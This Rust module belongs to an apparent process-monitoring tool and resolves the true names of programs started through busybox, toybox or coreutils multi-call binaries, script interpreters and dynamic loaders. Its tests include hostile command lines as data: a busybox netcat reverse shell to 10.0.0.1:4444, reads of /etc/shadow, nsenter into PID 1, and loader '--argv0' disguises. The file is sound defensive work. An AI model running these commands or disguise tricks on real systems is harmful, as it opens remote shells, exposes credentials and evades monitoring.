//! How programs are named.

use std::borrow::Cow;
use std::iter;

/// Multi-call programs: what they do depends on the name in their first argument.
const MULTI_CALL: [&str; 3] = ["busybox", "toybox", "coreutils"];

/// How the coreutils box is told its program, of itself and by the scripts that it is installed as.
const COREUTILS_PROGRAM: [&str; 2] = ["--coreutils-prog=", "--coreutils-prog-shebang="];

/// Options of the loaders of glibc whose value is the next argument.
const LOADER_OPTIONS: [&str; 7] = [
    "--library-path",
    "--preload",
    "--argv0",
    "--audit",
    "--inhibit-rpath",
    "--glibc-hwcaps-prepend",
    "--glibc-hwcaps-mask",
];

/// Descriptors that can be named like files.
const DESCRIPTORS: [&str; 3] = ["/dev/stdin", "/dev/stdout", "/dev/stderr"];

/// What is known of a program when it is named.
pub(super) struct Program<'a, Arguments> {
    /// The file that runs.
    pub executable: &'a str,
    /// What the kernel was asked to run, if that is known as a whole, and from where.
    pub requested: Option<&'a str>,
    pub working_directory: &'a str,
    /// Whether that is a script, which `executable` interprets.
    pub is_script: bool,
    pub is_box: bool,
    pub arguments: Arguments,
}

/// The two names of a program: rules that ask for either mean it.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct Names<'a> {
    /// `process.name`.
    pub name: &'a str,
    /// `tidewaiter.process.other_name`, if it is another.
    pub other: Option<&'a str>,
}

impl<'a, Arguments: Iterator<Item = &'a str> + Clone> Program<'a, Arguments> {
    /// By the name that was asked for, as the kernel names it, and by the file that runs: a box, a script's interpreter
    /// and a loader do what their arguments say, and that is the name which counts for them.
    pub(super) fn names(&self) -> Names<'a> {
        let file = base_name(self.executable);
        let does = self.does();
        let asked = self
            .requested
            .filter(|path| names_program(path, self.working_directory))
            .map(base_name)
            .filter(|name| !name.is_empty());
        let (name, other) = match self.is_script {
            true => (asked, does.unwrap_or(file)),
            false => (does.or(asked), file),
        };
        let name = name.unwrap_or(other);
        Names {
            name,
            other: Some(other).filter(|other| *other != name && !other.is_empty()),
        }
    }

    /// What a box or a loader does.
    fn does(&self) -> Option<&'a str> {
        let chosen = match self.is_box {
            true => applet(self.arguments.clone()),
            false => loaded_name(self.executable, self.arguments.clone()),
        };
        chosen.filter(|name| !name.is_empty())
    }
}

/// Whether the path that was asked for has a name of a program, and not a number of a descriptor or a word of the kernel.
fn names_program(requested: &str, working_directory: &str) -> bool {
    let path = match requested.starts_with('/') {
        true => Cow::Borrowed(requested),
        false => Cow::Owned(format!("{working_directory}/{requested}")),
    };
    let mut innermost = path.split('/').filter(|part| !part.is_empty() && *part != ".").rev();
    let (name, above) = (innermost.next(), innermost.next());
    let is_of_kernel = path.starts_with("/proc/") && (name == Some("exe") || matches!(above, Some("fd" | "map_files")));
    let is_descriptor = path.starts_with("/dev/") && above == Some("fd") || DESCRIPTORS.contains(&&*path);
    !is_of_kernel && !is_descriptor
}

/// The applet that a multi-call program runs: the one that it is called as, or called with.
pub(super) fn applet<'a>(arguments: impl Iterator<Item = &'a str>) -> Option<&'a str> {
    for (position, argument) in arguments.enumerate() {
        let told = COREUTILS_PROGRAM
            .iter()
            .find_map(|option| argument.strip_prefix(option));
        if told.is_some() {
            return told;
        }
        // A login shell's name begins with a dash, and so do options.
        if position > 0 && argument.starts_with('-') {
            return None;
        }
        let called = base_name(argument.trim_start_matches('-'));
        if !is_named_as_box(called) {
            return Some(called);
        }
    }
    None
}

/// What a program is called by its first argument, in which a login shell has a dash.
pub(super) fn called<'a>(mut arguments: impl Iterator<Item = &'a str>) -> &'a str {
    base_name(arguments.next().unwrap_or_default().trim_start_matches('-'))
}

/// What a dynamic loader was told to load, if that is what runs. The kernel starts it by itself for each program, but as
/// that program.
pub(super) fn loaded_program<'a>(executable: &str, arguments: impl Iterator<Item = &'a str>) -> Option<&'a str> {
    loaded(executable, arguments).map(|(program, ..)| program)
}

/// The name of what it loads; of a box that of the applet.
fn loaded_name<'a>(executable: &str, arguments: impl Iterator<Item = &'a str>) -> Option<&'a str> {
    let (program, called, rest) = loaded(executable, arguments)?;
    let name = base_name(program);
    let applet = is_named_as_box(name).then(|| applet(iter::once(called).chain(rest)));
    applet.flatten().or(Some(name))
}

/// What a loader loads, as what it calls that, and with which further arguments.
fn loaded<'a, Arguments: Iterator<Item = &'a str>>(
    executable: &str,
    arguments: Arguments,
) -> Option<(&'a str, &'a str, iter::Skip<Arguments>)> {
    let name = base_name(executable);
    let is_loader = name.starts_with("ld-musl-")
        || ["ld-", "ld.so", "ld64.so"].iter().any(|begin| name.starts_with(begin)) && name.contains(".so");
    if !is_loader {
        return None;
    }
    let mut called = None;
    let mut arguments = arguments.skip(1);
    let program = loop {
        let argument = arguments.next()?;
        if argument == "--" {
            break arguments.next()?;
        }
        if !argument.starts_with('-') {
            break argument;
        }
        if let Some(name) = argument.strip_prefix("--argv0=") {
            called = Some(name);
        }
        if LOADER_OPTIONS.contains(&argument) {
            let value = arguments.next();
            called = called.or(value.filter(|_| argument == "--argv0"));
        }
    };
    Some((program, called.unwrap_or(program), arguments))
}

/// Whether a file of this name is a multi-call program by its name: each of them takes any name that begins with its own
/// for itself.
pub(super) fn is_named_as_box(name: &str) -> bool {
    MULTI_CALL.iter().any(|own| name.starts_with(own))
}

/// What follows the last slash.
pub(super) fn base_name(path: &str) -> &str {
    memchr::memrchr(b'/', path.as_bytes()).map_or(path, |slash| &path[slash + 1..])
}

#[cfg(test)]
mod tests {
    use std::str::SplitTerminator;

    use super::*;

    type Split<'a> = SplitTerminator<'a, char>;

    fn program<'a>(executable: &'a str, requested: &'a str, command: &'a str) -> Program<'a, Split<'a>> {
        Program {
            executable,
            requested: Some(requested).filter(|path| !path.is_empty()),
            working_directory: "/",
            is_script: false,
            is_box: is_named_as_box(base_name(executable)),
            arguments: command.split_terminator(' '),
        }
    }

    fn script<'a>(executable: &'a str, requested: &'a str, command: &'a str) -> Program<'a, Split<'a>> {
        Program {
            is_script: true,
            ..program(executable, requested, command)
        }
    }

    fn both<'a>(program: &Program<'a, Split<'a>>) -> (&'a str, &'a str) {
        let names = program.names();
        (names.name, names.other.unwrap_or(""))
    }

    #[test]
    fn a_program_has_the_name_that_was_asked_for_and_that_of_its_file_and_never_what_it_was_told() {
        for (executable, requested, expected) in [
            ("/usr/bin/curl", "/usr/bin/curl", ("curl", "")),
            ("/usr/bin/kmod", "/sbin/rmmod", ("rmmod", "kmod")),
            (
                "/usr/sbin/xtables-nft-multi",
                "/usr/sbin/iptables",
                ("iptables", "xtables-nft-multi"),
            ),
            ("/usr/bin/dash", "../bin/sh", ("sh", "dash")),
            ("/usr/bin/python3.11", "", ("python3.11", "")),
            ("memfd:x", "/dev/fd/3", ("memfd:x", "")),
            ("", "", ("", "")),
        ] {
            let program = program(executable, requested, "innocent curl");
            assert_eq!(both(&program), expected, "{requested}");
        }
    }

    #[test]
    fn what_was_asked_for_and_names_no_program_is_named_by_its_file() {
        for requested in [
            "/proc/self/exe",
            "/proc/1/exe",
            "/proc/thread-self/exe",
            "/proc/12/fd/3",
            "/proc/self/task/7/fd/3",
            "/dev/fd/3",
            "/dev/stdin",
            "/proc/self/map_files/400000-401000",
            "/dev//fd/./3",
        ] {
            assert_eq!(
                both(&program("/usr/bin/nc.openbsd", requested, "ls")),
                ("nc.openbsd", ""),
                "{requested}"
            );
            assert_eq!(
                both(&script("/usr/bin/dash", requested, "sh")),
                ("dash", ""),
                "{requested}"
            );
        }
        let relative = Program {
            working_directory: "/proc/12/fd",
            ..program("/usr/bin/nc.openbsd", "./3", "ls")
        };
        assert_eq!(both(&relative), ("nc.openbsd", ""));
        let below = program("/usr/bin/nc.openbsd", "/proc/1/root/usr/bin/nc", "ls");
        assert_eq!(both(&below), ("nc", "nc.openbsd"));
    }

    #[test]
    fn a_script_has_its_own_name_and_that_of_what_its_interpreter_does() {
        assert_eq!(
            both(&script("/usr/bin/cat", "/tmp/ls", "/bin/cat /tmp/ls")),
            ("ls", "cat")
        );
        assert_eq!(
            both(&script("/bin/busybox", "/tmp/ls", "/bin/cat /tmp/ls")),
            ("ls", "cat")
        );
        assert_eq!(
            both(&script("/bin/busybox", "/tmp/ls", "/bin/busybox nc /tmp/ls")),
            ("ls", "nc")
        );
        let loader = "/lib64/ld-linux-x86-64.so.2";
        assert_eq!(
            both(&script(loader, "/tmp/ls", "/lib64/ld.so /bin/cat /tmp/ls")),
            ("ls", "cat")
        );
    }

    #[test]
    fn a_multi_call_program_is_named_by_the_applet_that_it_runs() {
        for (command, expected) in [
            ("/bin/wget", ("wget", "busybox")),
            ("-sh", ("sh", "busybox")),
            ("busybox", ("busybox", "")),
            ("-", ("busybox", "")),
            ("", ("busybox", "")),
            ("busybox nc -e /bin/sh 10.0.0.1 4444", ("nc", "busybox")),
            ("/bin/busybox.static nc -l", ("nc", "busybox")),
            ("/bin/busybox /bin/nsenter -t 1 -m", ("nsenter", "busybox")),
            ("busybox busybox cat /etc/shadow", ("cat", "busybox")),
            ("busybox --install -s /bin", ("busybox", "")),
        ] {
            assert_eq!(
                both(&program("/bin/busybox", "/bin/busybox", command)),
                expected,
                "{command}"
            );
        }
        // Whatever link to it is run, its first argument decides.
        assert_eq!(both(&program("/bin/busybox", "/bin/ls", "nc -l")), ("nc", "busybox"));
        assert_eq!(
            both(&program("/bin/toybox", "/bin/toybox", "toybox cat /etc/shadow")),
            ("cat", "toybox")
        );
        for command in [
            "coreutils --coreutils-prog=cat /etc/shadow",
            "cat --coreutils-prog-shebang=cat /usr/bin/cat",
        ] {
            assert_eq!(
                both(&program("/usr/bin/coreutils", "/usr/bin/coreutils", command)),
                ("cat", "coreutils")
            );
        }
    }

    #[test]
    fn a_loader_is_named_by_what_it_loads() {
        let (glibc, musl) = ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-musl-x86_64.so.1");
        for (loader, command, expected) in [
            (glibc, "ld /tmp/x -a", ("x", "ld-linux-x86-64.so.2")),
            (glibc, "ld --argv0 ls /bin/nc -l", ("nc", "ld-linux-x86-64.so.2")),
            (glibc, "ld --list", ("ld-linux-x86-64.so.2", "")),
            (musl, "ld /bin/busybox nc -l", ("nc", "ld-musl-x86_64.so.1")),
            (
                musl,
                "ld --argv0 cat /bin/busybox /etc/shadow",
                ("cat", "ld-musl-x86_64.so.1"),
            ),
            (
                musl,
                "ld --argv0=cat /bin/busybox /etc/shadow",
                ("cat", "ld-musl-x86_64.so.1"),
            ),
        ] {
            assert_eq!(both(&program(loader, loader, command)), expected, "{command}");
        }
    }

    #[test]
    fn what_a_loader_loads_is_its_first_argument_that_is_no_option() {
        for (executable, command, expected) in [
            ("/lib64/ld-linux-x86-64.so.2", "ld /tmp/x -a", Some("/tmp/x")),
            (
                "/usr/lib/ld-linux-aarch64.so.1",
                "ld --library-path /lib --preload=/l.so x",
                Some("x"),
            ),
            ("/lib/ld-2.31.so", "ld --argv0 sh -- -odd", Some("-odd")),
            ("/lib/ld-musl-x86_64.so.1", "ld --preload /l.so /tmp/x", Some("/tmp/x")),
            ("/usr/bin/ld.so", "ld.so --list", None),
            ("/usr/bin/ls", "ls /tmp/x", None),
            ("/usr/bin/ld-archive", "ld-archive x", None),
        ] {
            assert_eq!(loaded_program(executable, command.split(' ')), expected, "{command}");
        }
    }
}
